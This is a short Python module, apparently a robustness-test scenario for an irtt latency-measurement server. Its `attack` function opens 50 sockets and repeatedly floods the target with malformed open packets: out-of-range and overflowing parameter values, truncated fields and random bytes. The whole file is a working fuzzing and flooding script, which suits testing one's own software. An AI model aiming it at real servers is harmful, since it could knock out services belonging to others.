"""Parameters of irtt out of any range, cut and endless numbers, flags that are none."""

import asyncio
import random

from wire.irtt import DURATION, INTERVAL, LENGTH, MAGIC, OPEN, open_packet, speaker

ODD = [0, -1, 1, 2 ** 31, 2 ** 62, -2 ** 62, 65536, 1473]


async def attack(target):
    dice = random.Random(7)
    sockets = [await speaker(target, target.source(number, network=64)) for number in range(50)]
    while target.goes_on():
        for one in sockets:
            parameters = [(key, dice.choice(ODD)) for key in (DURATION, INTERVAL, LENGTH, 5, 6, 7, 8)]
            one.send(open_packet(*parameters))
            one.send(MAGIC + bytes([OPEN]) + b"\x01" + b"\xff" * dice.randrange(1, 40))
            one.send(MAGIC + bytes([dice.randrange(256)]) + dice.randbytes(dice.randrange(1400)))
            one.send(dice.randbytes(dice.randrange(1, 1400)))
        await asyncio.sleep(0.02)
